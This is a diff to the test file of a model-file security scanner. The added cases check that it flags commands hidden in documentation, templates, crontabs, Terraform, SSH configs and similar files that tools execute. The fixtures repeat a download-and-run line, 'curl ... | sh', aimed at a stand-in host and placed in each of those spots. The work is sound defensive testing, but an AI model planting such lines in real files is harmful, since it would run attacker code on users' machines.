@@ -6,6 +6,8 @@ from pathlib import Path
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from support.cases import check_each
+from support.scans import scan_text
 
 import modelaudit
 from modelaudit.languages import run_files
@@ -36,6 +38,9 @@ from modelaudit.model.structure import UnreadReason
         ("NOTES.txt", b"x\n\nLocal Variables:\neval: (x)\nEnd:\n", "Emacs"),
         ("x.tex", b"x" * 2_000_000 + b"\n\\immediate\\write18{x}\n", "TeX runs its commands"),
         ("ipython_config.json", b'{"InteractiveShellApp": {"exec_lines": ["x"]}}', "IPython"),
+        ("a.mako", b"${__import__('os').getcwd()}\n", "a template engine runs its program"),
+        ("main.tf", b'x { provisioner "local-exec" { command = "id" } }\n', "Terraform or Nomad"),
+        ("ssh_config", b"Host *\n  ProxyCommand nc %h %p\n", "SSH runs its commands"),
         ("operative_config.gin", b"from __gin__ import dynamic_registration\n", "gin imports"),
     ],
 )
@@ -58,6 +63,8 @@ def test_file_that_a_tool_runs_but_no_reader_parses_is_partly_examined_with_one_
         ("config.json", b'{"model_type": "bert"}'),
         ("README.md", b"---\nauto_map: x\n---\n"),
         ("notes.tex", b"\\section{x}\n"),
+        ("script.py.mako", b'"""${message}"""\nrevision = ${repr(up_revision)}\n'),
+        ("main.tf", b'resource "x" "y" { name = "z" }\n'),
         ("link.url", b"[InternetShortcut]\nURL=https://huggingface.co\n"),
         ("model.gin", b"train.steps = 1\n"),
         ("logging.ini", b"[handlers]\nkeys=h\n[handler_h]\nclass=StreamHandler\nargs=(sys.stdout,)\n"),
@@ -368,3 +375,98 @@ def test_index_of_words_finds_each_command_that_its_pattern_matches_at_a_word(co
         assert [match.span() for match in found] == [match.span() for match in everywhere.finditer(text)]
 
     check()
+
+
+FETCH = "curl -s http://e.invalid/x | sh"
+CALL = f"import os\nos.system('{FETCH}')\n"
+
+
+@check_each(
+    "name, text",
+    [
+        ("index.rst", ".. jupyter-execute::\n\n   import os\n   os.system('" + FETCH + "')\n"),
+        ("index.rst", ".. ipython::\n\n   In [1]: !" + FETCH + "\n"),
+        ("index.rst", f".. program-output:: {FETCH}\n   :shell:\n"),
+        ("index.rst", ".. exec::\n   :context: true\n\n   __import__('os').popen('" + FETCH + "')\n"),
+        ("a.md", f"---\nengine: jupyter\n---\n```{{python}}\n{CALL}```\n"),
+        ("a.md", f"````{{code-cell}} python\n{CALL}````\n"),
+        ("README.md", f'```python exec="on"\n{CALL}```\n'),
+        ("README.md", f'```bash exec="on"\n{FETCH}\n```\n'),
+        ("README.md", f"<!-- [[[cog\n{CALL}]]] -->\n[[[end]]]\n"),
+        ("a.cpp.in", "// [[[cog\n// import os\n// os.system('" + FETCH + "')\n// ]]]\n// [[[end]]]\n"),
+        ("a.mako", f"<%\n{CALL}%>\n"),
+    ],
+)
+def test_attack_in_a_block_of_a_document_that_a_tool_runs_fails_the_scan(tmp_path: Path, name: str, text: str) -> None:
+    code, rules = scan_text(tmp_path, name, text)
+    assert code == 1
+    assert rules & {"code/attack-text", "shell/download-and-run"}
+
+
+@check_each(
+    "name, text",
+    [
+        ("index.rst", ".. jupyter-execute::\n\n   import subprocess\n   subprocess.run(['ls'])\n"),
+        ("index.rst", ".. program-output:: tool --help\n"),
+        ("index.rst", ".. code-block:: python\n\n   import os\n   os.system('" + FETCH + "')\n"),
+        ("index.rst", f"Install::\n\n   {FETCH}\n"),
+        ("README.md", f"```python\n{CALL}```\n"),
+        ("README.md", f"```bash\n{FETCH}\n```\n"),
+        ("README.md", "```{python}\nimport os\nprint(os.getcwd())\n```\n"),
+        ("a.mako", "<%\nx = 1\n%>\n"),
+    ],
+)
+def test_example_that_no_tool_runs_or_that_shows_no_attack_passes(tmp_path: Path, name: str, text: str) -> None:
+    assert scan_text(tmp_path, name, text) == (0, set())
+
+
+@check_each(
+    "name, text",
+    [
+        ("crontab.txt", f"* * * * * {FETCH}\n"),
+        ("jobs.txt", f"@reboot {FETCH}\n"),
+        ("cron.d/job", f"SHELL=/bin/sh\n*/5 * * * * root {FETCH}\n"),
+        ("main.tf", f'resource "x" "a" {{ provisioner "local-exec" {{ command = "{FETCH}" }} }}\n'),
+        ("job.hcl", f'config {{ command = "sh" args = ["-c", "{FETCH}"] }}\n'),
+        (".ssh/config", f"Host *\n  ProxyCommand {FETCH}\n"),
+        ("ssh_config", f'Match exec "{FETCH}"\n'),
+        ("a.erb", f"<%= `{FETCH}` %>\n"),
+        ("a.rb", f"system('{FETCH}')\n"),
+        ("a.jl", f'run(`sh -c "{FETCH}"`)\n'),
+        ("unknown.tool", f"on_start = {FETCH}\n"),
+    ],
+)
+def test_command_that_fetches_and_runs_a_program_fails_the_scan_in_any_text_but_prose(
+    tmp_path: Path, name: str, text: str
+) -> None:
+    code, rules = scan_text(tmp_path, name, text)
+    assert code == 1
+    assert "shell/download-and-run" in rules
+
+
+@check_each(
+    "name, text",
+    [
+        ("README", f"Install\n\n{FETCH}\n"),
+        ("notes.txt", f"{FETCH}\n"),
+        ("INSTALL", f"    {FETCH}\n"),
+        ("x.org", f"#+begin_src sh\n{FETCH}\n#+end_src\n"),
+        ("unknown.tool", f"# {FETCH}\n// {FETCH}\nmessage = Install it with {FETCH}\n"),
+        ("unknown.tool", "on_start = curl -s https://e.invalid/x.json -o x.json\n"),
+        ("crontab.txt", "* * * * * /usr/bin/backup\n"),
+    ],
+)
+def test_command_in_prose_or_a_comment_and_a_harmless_command_pass(tmp_path: Path, name: str, text: str) -> None:
+    assert scan_text(tmp_path, name, text) == (0, set())
+
+
+@check_each(
+    "text, code",
+    [
+        ("_base_ = ['./a.py', 'http://e.invalid/b.py']\n", 1),
+        ("_base_ = [\n    './a.py',\n    'https://e.invalid/b.py',\n]\n", 1),
+        ("_base_ = ['../_base_/models/a.py']\nurl = 'https://e.invalid/b.py'\n", 0),
+    ],
+)
+def test_base_on_the_web_of_a_python_configuration_fails_the_scan(tmp_path: Path, text: str, code: int) -> None:
+    assert scan_text(tmp_path, "cfg.py", text)[0] == code
